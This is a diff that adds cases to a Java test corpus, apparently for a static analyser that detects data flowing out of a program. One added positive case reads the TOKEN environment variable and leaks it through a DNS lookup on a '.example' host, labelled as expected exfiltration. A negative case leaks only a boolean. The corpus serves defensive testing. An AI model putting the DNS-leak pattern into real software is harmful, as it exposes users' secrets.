@@ -83,6 +83,16 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        add("sanitiser: a same-named method of another type is no sanitiser", "positive: sanitiser matched by type", """
+                package PKG;
+                import java.net.InetAddress;
+                class A {
+                    void f(java.util.Scanner in) throws Exception {
+                        String t = System.getenv("TOKEN");
+                        InetAddress.getByName(t.concat(".example")); // expect: EXFIL
+                    }
+                }
+                """);
         inline("local variable", "locals", """
                 package PKG;
                 class A {
@@ -544,6 +554,19 @@ final class FlowCorpus {
     }
 
     private void negatives() {
+        add("sanitiser: Matcher.matches answers yes or no", "negative: sanitised by the model", """
+                package PKG;
+                import java.net.InetAddress;
+                import java.util.regex.Matcher;
+                import java.util.regex.Pattern;
+                class A {
+                    void f() throws Exception {
+                        Matcher m = Pattern.compile("[a-z]+").matcher(System.getenv("TOKEN"));
+                        boolean ok = m.matches();
+                        InetAddress.getByName(ok + ".example");
+                    }
+                }
+                """);
         add("dispatch: another call's argument", "negative: unrelated data", """
                 package PKG;
                 interface Format {
